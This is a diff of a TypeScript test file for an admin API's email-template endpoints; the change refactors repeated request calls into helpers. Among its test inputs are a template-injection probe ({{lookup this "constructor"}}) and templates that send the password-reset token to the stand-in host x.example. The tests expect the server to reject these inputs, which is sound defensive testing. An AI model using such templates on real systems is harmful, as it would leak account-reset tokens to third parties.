@@ -559,6 +559,11 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
   });
 
   it('edits email templates: a syntax error is a 400 naming the line, a valid one is saved, previewed with the tenant branding, then reset to the default', async () => {
+    /** PUT / POST …/preview of one template (`kind/locale`) of the Cégep. */
+    const save = (body: unknown, template = 'password-reset/fr') =>
+      cegepAdmin.request('PUT', `/tenants/${cegep}/templates/${template}`, body);
+    const previewOf = (body: unknown, template = 'password-reset/fr') =>
+      cegepAdmin.request('POST', `/tenants/${cegep}/templates/${template}/preview`, body);
     const list = (await cegepAdmin.get(`/tenants/${cegep}/templates`)).json<TemplateListItem[]>();
     // The Cégep now has fr and en (set above): 6 kinds × 2 languages.
     expect(list).toHaveLength(12);
@@ -577,29 +582,25 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
     );
     expect(original.html).toContain('{{');
 
-    const broken = await cegepAdmin.request(
-      'PUT',
-      `/tenants/${cegep}/templates/password-reset/fr`,
-      {
-        subject: 'Réinitialiser votre mot de passe',
-        html: '<p>Bonjour {{recipientName}},</p>\n<p>Votre lien :</p>\n<p>{{#if link}}<a href="{{link}}">ici</a></p>\n',
-        text: 'Bonjour {{recipientName}}\n{{link}}\n',
-      },
-    );
+    const broken = await save({
+      subject: 'Réinitialiser votre mot de passe',
+      html: '<p>Bonjour {{recipientName}},</p>\n<p>Votre lien :</p>\n<p>{{#if link}}<a href="{{link}}">ici</a></p>\n',
+      text: 'Bonjour {{recipientName}}\n{{link}}\n',
+    });
     expect(broken.status).toBe(400);
     const error = broken.json<TemplateErrorBody>();
     expect(error).toMatchObject({ error: 'invalid_template', part: 'html', line: 3 });
     expect(error.message).toMatch(/line 3/);
     expect(error.fields!.html![0]).toMatch(/^line 3: /);
-    const unknownHelper = await cegepAdmin.request(
-      'PUT',
-      `/tenants/${cegep}/templates/password-reset/fr`,
-      { subject: 'Sujet', html: '<p>ok</p>', text: 'ligne 1\n{{lookup this "constructor"}}\n' },
-    );
+    const unknownHelper = await save({
+      subject: 'Sujet',
+      html: '<p>ok</p>',
+      text: 'ligne 1\n{{lookup this "constructor"}}\n',
+    });
     expect(unknownHelper.json<TemplateErrorBody>()).toMatchObject({ part: 'text', line: 2 });
     expect(
       (
-        await cegepAdmin.request('PUT', `/tenants/${cegep}/templates/password-reset/fr`, {
+        await save({
           subject: '',
           html: '<p>x</p>',
           text: 'x',
@@ -607,7 +608,7 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
       ).json(),
     ).toMatchObject({ part: 'subject' });
     // The link (its token) may not be handed to a third party: only <a href="{{link}}">, or a text line of its own.
-    const leak = await cegepAdmin.request('PUT', `/tenants/${cegep}/templates/password-reset/fr`, {
+    const leak = await save({
       subject: 'Sujet',
       html: '<p>Bonjour</p>\n<img src="https://x.example/?{{link}}" alt="">\n<a href="{{link}}">ici</a>',
       text: '{{link}}',
@@ -621,15 +622,11 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
     expect(leak.json<TemplateErrorBody>().message).toBe(
       'The html template has an error on line 2: {{link}} is only allowed as the href of a link, <a href="{{link}}">…</a>, or as the text of that link',
     );
-    const textLeak = await cegepAdmin.request(
-      'PUT',
-      `/tenants/${cegep}/templates/password-reset/fr`,
-      {
-        subject: 'Sujet',
-        html: '<a href="{{link}}">ici</a>',
-        text: 'Bonjour\nhttps://x.example/?t={{link}}',
-      },
-    );
+    const textLeak = await save({
+      subject: 'Sujet',
+      html: '<a href="{{link}}">ici</a>',
+      text: 'Bonjour\nhttps://x.example/?t={{link}}',
+    });
     expect(textLeak.json<TemplateErrorBody>()).toMatchObject({ part: 'text', line: 2 });
     expect((await auditRows(ctx, cegep, 'template.updated')).length).toBe(0);
 
@@ -639,11 +636,7 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
       html: '<p>Bonjour {{recipientName}},</p>\n<p>Pour des raisons de sécurité, l’accès à cette page est pour une durée limitée.</p>\n<p><a href="{{link}}">Réinitialiser</a></p>\n',
       text: 'Bonjour {{recipientName}},\nLien : {{link}}\n{{signature}}\n',
     };
-    const saved = await cegepAdmin.request(
-      'PUT',
-      `/tenants/${cegep}/templates/password-reset/fr`,
-      custom,
-    );
+    const saved = await save(custom);
     expect(saved.status).toBe(200);
     expect(saved.json<TemplateView>()).toMatchObject({
       ...custom,
@@ -666,11 +659,11 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
     const stored = (
       await cegepAdmin.get(`/tenants/${cegep}/templates/password-reset/fr`)
     ).json<TemplateView>();
-    const preview = await cegepAdmin.request(
-      'POST',
-      `/tenants/${cegep}/templates/password-reset/fr/preview`,
-      { subject: stored.subject, html: stored.html, text: stored.text },
-    );
+    const preview = await previewOf({
+      subject: stored.subject,
+      html: stored.html,
+      text: stored.text,
+    });
     expect(preview.status).toBe(200);
     const rendered = preview.json<TemplatePreviewResponse>();
     expect(rendered.subject).toBe('Cégep : votre lien pour trej');
@@ -680,7 +673,7 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
     expect(rendered.text).toContain('Votre Centre de services informatiques');
     expect(
       (
-        await cegepAdmin.request('POST', `/tenants/${cegep}/templates/password-reset/fr/preview`, {
+        await previewOf({
           subject: '{{#if}}',
           html: '',
           text: '',
@@ -689,19 +682,14 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
     ).toBe(400);
     // Blank parts preview as the default.
     const defaults = (
-      await cegepAdmin.request('POST', `/tenants/${cegep}/templates/enrolment/en/preview`, {
-        subject: '',
-        html: '',
-        text: '',
-      })
+      await previewOf({ subject: '', html: '', text: '' }, 'enrolment/en')
     ).json<TemplatePreviewResponse>();
     expect(defaults.subject.length).toBeGreaterThan(0);
     // A large body (the JSON limit of the admin API is above the template limits).
-    const big = await cegepAdmin.request('PUT', `/tenants/${cegep}/templates/test-email/en`, {
-      subject: 'Test',
-      html: `<p>${'x'.repeat(95_000)}</p>`,
-      text: 'y'.repeat(45_000),
-    });
+    const big = await save(
+      { subject: 'Test', html: `<p>${'x'.repeat(95_000)}</p>`, text: 'y'.repeat(45_000) },
+      'test-email/en',
+    );
     expect(big.status).toBe(200);
 
     expect((await cegepAdmin.get(`/tenants/${cegep}/templates/sms/fr`)).status).toBe(404);
